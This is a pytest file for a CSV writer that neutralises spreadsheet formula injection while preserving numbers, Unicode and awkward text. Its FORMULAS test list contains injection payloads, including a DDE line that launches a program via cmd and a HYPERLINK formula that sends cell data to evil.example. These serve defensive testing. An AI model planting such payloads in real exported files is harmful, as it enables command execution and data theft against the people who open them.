"""CSV that spreadsheets open: no cell is a formula, numbers stay numbers, all else comes back."""

import csv
from io import StringIO

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from textvec.show.csv_files import neutral, write_csv

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1＋1",
    "－2",
    "-",
    "-inf+1",
    "=",
]
PLAIN = ["", "sea view", "1-2", "a=b", "'=1", "3.5", "-3.5", "+7", "-1e-9", "海景", "#N/A", '"']


def cells(path):
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text, tmp_path):
    assert neutral(text) == f"'{text}"
    table = pd.DataFrame([[text]], columns=[text])
    path = write_csv(tmp_path / "a.csv", table)
    assert cells(path) == [[f"'{text}"]] * 2


@pytest.mark.parametrize("text", PLAIN)
def test_all_else_is_as_it_was(text, tmp_path):
    assert neutral(text) == text
    assert cells(write_csv(tmp_path / "a.csv", pd.DataFrame({"a": [text]})))[1] == [text]


@given(st.text())
def test_no_text_begins_like_a_formula_but_numbers(text):
    first = neutral(text)[:1]
    if first and first in "=+-@\t\r\n＝＋－＠":
        float(text)
    else:
        assert neutral(text) in (text, f"'{text}")


def test_numbers_stay_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "score": np.array([-0.1, np.nan, np.inf], np.float32),
            "n": [-1, 2, 3],
            "seen": [True, False, True],
            "maybe": pd.array([1, None, -3], dtype="Int64"),
            "name": ["a", None, "b;=1+1,=2\t=3"],
            ("task", "metric"): [-1.5, 0.0, 2.0],
        }
    )
    path = write_csv(tmp_path / "a.csv", table)
    lines = path.read_bytes().decode("utf-8-sig").split("\n")
    assert lines[1] == '-0.1,-1,"True",1,"a",-1.5'
    again = pd.read_csv(path)
    assert list(again) == ["score", "n", "seen", "maybe", "name", "task metric"]
    np.testing.assert_array_equal(again["score"], [-0.1, np.nan, np.inf])
    assert again["n"].tolist() == [-1, 2, 3]
    assert again["maybe"].tolist()[::2] == [1, -3]
    assert '"b;=1+1,=2\t=3"' in lines[3]  # quoted: nothing in it opens a cell of its own


@pytest.mark.parametrize("name", ["a.csv", "a.tsv", "a.tab"])
def test_odd_text_comes_back(tmp_path, name):
    odd = ["a,b", 'say "no"', "two\nlines", "tab\tinside", "NUL\0here", "海景 🎈", "\u202eright"]
    path = write_csv(tmp_path / name, pd.DataFrame({"a": odd, "b": range(len(odd))}))
    separator = "," if name.endswith("csv") else "\t"
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(StringIO(text, newline=""), delimiter=separator))
    assert [row[0] for row in rows[1:]] == odd
    assert [len(row) for row in rows] == [2] * len(rows)
    lone = write_csv(path, pd.DataFrame({"a": ["lone \ud800"]}, dtype=object))
    assert "lone ?" in lone.read_text(encoding="utf-8")


def test_tables_of_nothing(tmp_path):
    assert cells(write_csv(tmp_path / "a.csv", pd.DataFrame({"a": [], "b": []}))) == [["a", "b"]]
